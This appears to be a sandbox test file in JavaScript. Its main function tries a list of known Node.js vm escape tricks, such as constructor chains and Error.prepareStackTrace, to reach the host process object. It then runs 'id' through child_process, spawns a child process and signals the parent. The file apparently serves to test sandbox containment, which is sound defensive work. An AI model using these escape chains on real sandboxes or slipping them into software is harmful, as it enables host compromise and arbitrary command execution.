// expect: accepted; family: processes
// Breaks out of the context by every known way first; what is behind it is the sandbox.
function main() {
  const ways = [
    () => this.constructor.constructor('return process')(),
    () => globalThis.constructor.constructor('return process')(),
    () => console.log.constructor('return process')(),
    () => setTimeout.constructor('return process')(),
    () => { try { null.x } catch (e) { return e.constructor.constructor('return process')() } },
    () => { const f = () => f(); try { f() } catch (e) { return e.constructor.constructor('return process')() } },
    () => { Error.prepareStackTrace = (e, s) => s; const f = new Error().stack; return f.map((s) => s.getThis()).find((t) => t && t.process).process },
    () => process,
  ];
  for (const way of ways) {
    try { const p = way(); if (p && p.pid) return p; } catch {}
  }
  return null;
}

function square(n) {
  const process = main();
  const seen = [];
  const attempt = (what) => { try { const r = what(process); if (r) seen.push(String(r).slice(0, 80)); } catch {} };

  attempt((p) => p.getBuiltinModule('child_process').execSync('id'));
  attempt((p) => p.getBuiltinModule('child_process').spawnSync(p.execPath, ['-e', '1']).pid);
  attempt((p) => p.kill(p.ppid || 1, 0));

  return seen.length ? seen : n * n;
}
